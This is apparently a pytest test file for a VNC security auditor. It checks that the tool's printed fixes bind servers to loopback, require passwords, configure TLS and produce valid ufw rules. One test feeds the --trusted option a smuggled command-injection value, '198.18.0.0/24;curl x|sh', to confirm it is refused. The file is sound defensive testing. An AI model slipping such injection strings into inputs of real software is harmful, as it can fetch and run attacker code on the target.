    with printed(step_commands(bind, "tigervnc", "Xvnc"), lab.env, lab.port) as pid:
        addresses = [a for a, p in servers.tcp_listen_addresses(pid) if p == lab.port]
        assert addresses and all(_loopback(a) for a in addresses), addresses
    with printed(step_commands(v6, "tigervnc", "Xvnc"), lab.env, lab.port) as pid:
        addresses = [a for a, p in servers.tcp_listen_addresses(pid) if p == lab.port]
        assert addresses and all(":" not in a for a in addresses), addresses
    with printed(step_commands(pw, "tigervnc", "Xvnc"), lab.env, lab.port):
        facts = probe_facts(lab.port).rfb
        assert facts is not None and facts.auth_required is True
        assert {t.name for t in facts.security_types} >= {"VeNCrypt", "VNC Authentication"}
        assert facts.vencrypt is not None
        assert [s.id for s in facts.vencrypt.subtypes] == [258, 2]  # TLSVnc, VncAuth
    openssl = step_commands(tls, "tigervnc", "openssl")
    made = subprocess.run(["bash", "-c", openssl], env=lab.env, capture_output=True, text=True,
                          timeout=60, check=False)
    assert made.returncode == 0, made.stderr
    with printed(step_commands(tls, "tigervnc", "Xvnc"), lab.env, lab.port):
        facts = probe_facts(lab.port).rfb
        assert facts is not None and [t.id for t in facts.security_types] == [19]
        assert facts.vencrypt is not None
        assert [s.id for s in facts.vencrypt.subtypes] == [261, 262]  # X509Vnc, X509Plain


def write_session(lab: Lab) -> None:
    """A stand-in desktop session for the vncserver wrappers; it records its PID so the test
    stops it (the wrappers' -kill stops the X server, not the session)."""
    xstartup = os.path.join(lab.home, ".vnc", "xstartup")
    with open(xstartup, "w") as fh:
        fh.write(f"#!/bin/sh\necho $$ > {lab.home}/session.pid\nexec sleep 600\n")
    os.chmod(xstartup, 0o755)


def stop_session(lab: Lab) -> None:
    with contextlib.suppress(OSError, ValueError):
        with open(os.path.join(lab.home, "session.pid")) as fh:
            os.kill(int(fh.read()), 15)


@pytest.mark.realserver
def test_tightvnc_printed_commands_start_on_loopback_and_stop(lab: Lab) -> None:
    need("tightvncserver", "Xtightvnc")
    import time

    import servers

    fix = remedy("set-password", host="127.0.0.1", port=lab.port, product="TightVNC")
    start = step_commands(fix, "tightvnc", f"tightvncserver :{lab.display} -localhost")
    stop = step_commands(fix, "tightvnc", "tightvncserver -kill")
    write_session(lab)
    run = subprocess.run(["bash", "-c", start], env=lab.env, capture_output=True, text=True,
                         timeout=60, check=False)
    try:
        assert run.returncode == 0, run.stderr
        deadline = time.monotonic() + 15
        while not servers.is_listening(lab.port):
            assert time.monotonic() < deadline, "tightvncserver never listened"
            time.sleep(0.1)
        # The server runs on the display the command names (its pid file says so) ...
        import socket

        pid_file = os.path.join(lab.home, ".vnc", f"{socket.gethostname()}:{lab.display}.pid")
        with open(pid_file) as fh:
            pid = int(fh.read())
        addresses = [a for a, p in servers.tcp_listen_addresses(pid) if p == lab.port]
        # ... bound to loopback only (-localhost), without X11 on 6000+N (-nolisten tcp).
        assert addresses and all(_loopback(a) for a in addresses), addresses
        assert not servers.tcp_listen_inodes(6000 + lab.display)
        facts = probe_facts(lab.port).rfb
        assert facts is not None and facts.auth_required is True
    finally:
        killed = subprocess.run(["bash", "-c", stop], env=lab.env, capture_output=True,
                                text=True, timeout=60, check=False)
        stop_session(lab)
    assert killed.returncode == 0, killed.stderr
    deadline = time.monotonic() + 10
    while servers.is_listening(lab.port):
        assert time.monotonic() < deadline, "tightvncserver -kill left it running"
        time.sleep(0.1)


@pytest.mark.realserver
def test_tigervnc_vncserver_wrapper_starts_on_loopback_and_kill_stops_it(lab: Lab) -> None:
    need("vncserver", "Xtigervnc")
    import socket
    import time

    import servers

    if "tigervnc" not in os.path.realpath(shutil.which("vncserver") or ""):
        pytest.skip("vncserver is not TigerVNC's here")
    bind = remedy("bind-localhost", host="127.0.0.1", port=lab.port, product="TigerVNC")
    off = remedy("disable-unused", host="127.0.0.1", port=lab.port, product="TigerVNC")
    start = step_commands(bind, "tigervnc", "vncserver -localhost")
    stop = step_commands(off, "tigervnc", "vncserver -kill")
    write_session(lab)
    run = subprocess.run(["bash", "-c", start], env=lab.env, capture_output=True, text=True,
                         timeout=60, check=False)
    pid_file = os.path.join(lab.home, ".vnc", f"{socket.gethostname()}:{lab.display}.pid")
    try:
        assert run.returncode == 0, run.stderr
        with open(pid_file) as fh:
            pid = int(fh.read())
        deadline = time.monotonic() + 15
        while not servers.is_listening(lab.port, [pid]):
            assert time.monotonic() < deadline, "vncserver never listened"
            time.sleep(0.1)
        addresses = [a for a, p in servers.tcp_listen_addresses(pid) if p == lab.port]
        assert addresses and all(_loopback(a) for a in addresses), addresses
    finally:
        killed = subprocess.run(["bash", "-c", stop], env=lab.env, capture_output=True,
                                text=True, timeout=60, check=False)
        stop_session(lab)
    assert killed.returncode == 0, killed.stderr
    deadline = time.monotonic() + 10
    while servers.is_listening(lab.port):
        assert time.monotonic() < deadline, "vncserver -kill left it running"
        time.sleep(0.1)


@pytest.mark.realserver
def test_qemu_printed_options_bind_loopback_and_take_a_password(lab: Lab) -> None:
    need("qemu-system-x86_64")
    import servers

    bind = remedy("bind-localhost", host="127.0.0.1", port=lab.port, product="QEMU")
    pw = remedy("set-password", host="127.0.0.1", port=lab.port, product="QEMU")
    base = "qemu-system-x86_64 -machine none -nodefaults -monitor none "
    (option,) = commands(bind)
    with printed(base + option, lab.env, lab.port) as pid:
        addresses = [a for a, p in servers.tcp_listen_addresses(pid) if p == lab.port]
        assert addresses == ["127.0.0.1"], addresses
        facts = probe_facts(lab.port).rfb
        assert facts is not None and facts.auth_required is False  # before the fix
    option, monitor = commands(pw)
    assert monitor == "change vnc password"
    qemu = subprocess.Popen(
        ["bash", "-c", "exec " + base.replace("-monitor none", "-monitor stdio") + option],
        env=lab.env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        text=True, start_new_session=True)
    try:
        assert qemu.stdin is not None
        qemu.stdin.write(f"{monitor}\nsecret12\ninfo vnc\n")
        qemu.stdin.flush()
        import time

        deadline = time.monotonic() + 20
        while not servers.is_listening(lab.port, [qemu.pid]):
            assert qemu.poll() is None and time.monotonic() < deadline, "qemu did not listen"
            time.sleep(0.1)
        facts = probe_facts(lab.port).rfb
        assert facts is not None and facts.auth_required is True
        assert [t.id for t in facts.security_types] == [2]
    finally:
        os.killpg(qemu.pid, 15)
        qemu.wait(10)


@pytest.mark.parametrize("command", ["scan", "results"])
def test_cli_refuses_an_unsafe_trusted_value_before_doing_anything(command: str) -> None:
    args = [command, "127.0.0.1"] if command == "scan" else [command, "s-none"]
    out = _cli(*args, "--trusted", "198.18.0.0/24;curl x|sh")
    assert out.returncode == 2
    assert out.stdout == ""
    (line,) = out.stderr.strip().splitlines()
    assert "--trusted" in line and "Traceback" not in out.stderr


UFW_CHECK = textwrap.dedent("""
    import gettext, json, shlex, sys
    gettext.install("ufw")
    import ufw.frontend
    out = []
    for command in json.loads(sys.argv[1]):
        try:
            parsed = ufw.frontend.parse_command(["ufw", *shlex.split(command)[1:]])
            rule = parsed.data.get("rule")
            out.append([command, "ok", rule.format_rule() if rule is not None else ""])
        except (Exception, SystemExit) as exc:  # ufw's error() prints and exits
            out.append([command, "bad", f"{type(exc).__name__}: {exc}"])
    print(json.dumps(out))
""")


def test_ufw_commands_parse_with_ufws_own_parser() -> None:
    """ufw's rule parser (its Python package) accepts every printed ufw command; nothing is
    applied. VNCAUDIT_UFW_PYTHONPATH may point at an unpacked ufw .deb where ufw is absent."""
    path = os.environ.get("VNCAUDIT_UFW_PYTHONPATH") or "/usr/lib/python3/dist-packages"
    if not os.path.exists(os.path.join(path, "ufw", "frontend.py")):
        pytest.skip("ufw is not installed (Debian package ufw)")
    lines = sorted({c for trusted in ("198.18.0.0/24", "2001:2::/48") for rid in REMEDY_IDS
                    for c in commands(remedy(rid, host="198.18.0.9", port=5917,
                                             trusted=trusted))
                    if c.startswith("ufw ")})
    assert len(lines) >= 5
    broken = "ufw allow from 198.18.0.0/24 to any prot 5917"  # the parser must catch this
    out = subprocess.run([sys.executable, "-c", UFW_CHECK, json.dumps([*lines, broken])],
                         capture_output=True, text=True, timeout=60, check=False,
                         env={**os.environ, "PYTHONPATH": path})
    assert out.returncode == 0, out.stderr
    verdicts = json.loads(out.stdout)
    assert [v[0] for v in verdicts if v[1] != "ok"] == [broken]
    rules = {v[0]: v[2] for v in verdicts}
    assert rules["ufw deny 5917/tcp"] == "-p tcp --dport 5917 -j DROP"
    assert rules["ufw allow from 198.18.0.0/24 to any port 5917 proto tcp"] == \
        "-p tcp --dport 5917 -s 198.18.0.0/24 -j ACCEPT"


@pytest.mark.realserver
def test_websockify_printed_command_listens_on_loopback_only(lab: Lab) -> None:
    need("websockify")
    import servers

    fix = remedy("bind-localhost", host="127.0.0.1", port=lab.port, product="noVNC/websockify")
    (command,) = commands(fix)
    # The reader fills in the VNC server websockify relays to (the step says where to find it).
    assert command.endswith(" <vnc-server>")
    command = command.replace("<vnc-server>", "127.0.0.1:5999")
    with printed(command, lab.env, lab.port) as pid:
        assert [a for a, p in servers.tcp_listen_addresses(pid) if p == lab.port] \
            == ["127.0.0.1"]


# ---------------------------------------------------------------------------------------------
# The guide a person reads: only steps that fit, candidates folded (issue: 200 lines for one
# loopback service of an unknown product)


@pytest.mark.realserver
def test_fix_guide_for_a_loopback_service_of_an_unknown_product(vnc_server_factory,
                                                                  tmp_path) -> None:
    srv = vnc_server_factory("tigervnc-none", desktop="lab-desktop")  # unknown: [1], a name
    run = subprocess.run([sys.executable, "-m", "vncaudit", "scan", "127.0.0.1", "-p",
                          str(srv.port)], capture_output=True, text=True, timeout=120,
                         env={**os.environ, "COLUMNS": "100",
                              "VNCAUDIT_DB": str(tmp_path / "s.db")})
    assert run.returncode == 0, run.stderr
    out = run.stdout
    fix = out[out.index("  fix:"):]
    # Bound to loopback already: no "listen on localhost only", no firewall or tunnel for it.
    for never in ("listen on localhost only", "ufw", "iptables", "nft ", "ssh -N -L",
                  "Allow the VNC port only from"):
        assert never not in fix, (never, fix)
    assert "Require authentication" in fix and "[set-password]" in fix
    # The candidates' own steps: one line each, and where to see them.
    for name in ("QEMU", "TigerVNC"):  # the candidates with steps of their own for this fix
        assert re.search(rf"^ +{name}: \d+ steps?$", fix, re.M), fix
    assert re.search(r"vncaudit results s-\S+ -o html --output-file fix\.html", fix)
    assert "vncpasswd" not in fix  # TigerVNC's commands stay folded
    assert len(out.splitlines()) <= 60, out


def test_fix_guide_of_an_unknown_product_reachable_from_a_network_is_short() -> None:
    from vncaudit.assess import assess
    from vncaudit.fingerprint import identify
    from vncaudit.models import NamedType, RfbFacts

    facts = RfbFacts("RFB 003.008\n", "3.8", "3.8", (NamedType(1, "None"),), auth_required=False,
                     desktop_name="lab-desktop", selected_type=1, security_result="ok")
    result = ServiceResult("198.51.100.7", 5901, State.VNC, rfb=facts)
    result = assess(result)
    assert result.product is not None and result.product.name == "unknown", identify(result)
    fixes = remedies_for(result)
    ids = [f.id for f in fixes]
    assert "bind-localhost" in ids and "firewall-allowlist" in ids  # a network can reach it
    steps = sum(len(f.steps) for f in fixes)
    folded = {g.product for f in fixes for g in f.by_product}
    assert folded == {"LibVNCServer", "QEMU", "TigerVNC"} & folded and "TigerVNC" in folded
    assert not folded & {"UltraVNC", "RealVNC", "macOS Screen Sharing"}  # not candidates
    assert steps <= 16, [(f.id, [s.platform for s in f.steps]) for f in fixes]
    # The HTML report folds them: one <details> per candidate product and fix.
    from vncaudit import report

    html = report.render("html", report.ScanMeta("s-x", "2026-01-01T00:00:00+00:00", None,
                                                 ["198.51.100.7"], "5901", "vncaudit"),
                         [result])
    assert html.count('<details class="candidate" data-product="TigerVNC">') >= 2
    assert "The product was not identified" in html


@pytest.mark.realserver
def test_vino_printed_commands_require_a_password(vnc_server_factory) -> None:
    """The GNOME vino steps, run as printed in the desktop user's session (the password typed
    on stdin): the running vino asks for the password from then on, and nobody is let in on
    an Accept alone."""
    import asyncio
    import time

    from vncaudit.assess import assess
    from vncaudit.models import Target
    from vncaudit.probe import ProbeOptions, probe

    srv = vnc_server_factory("vino")
    fix = remedy("set-password", host=srv.host, port=srv.port, product="GNOME vino")
    assert platforms(fix) == {"vino"}
    for command in commands(fix):
        subprocess.run(["bash", "-c", command], env=srv.session_env, input="secret12\n",
                       text=True, check=True, capture_output=True, timeout=30)
    deadline = time.monotonic() + 10
    while True:
        result = asyncio.run(probe(Target(srv.host, srv.port), ProbeOptions(timeout=5)))
        inner = [t.id for t in result.rfb.tls_inner_types or ()] if result.rfb else []
        if inner == [2] or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert inner == [2], result
    ids = {f.id for f in assess(result).findings}
    assert not ids & {"no-auth", "tls-no-auth", "approval-required"}, ids
    bind = remedy("bind-localhost", host=srv.host, port=srv.port, product="GNOME vino")
    assert commands(bind) == ["gsettings set org.gnome.Vino network-interface lo"]
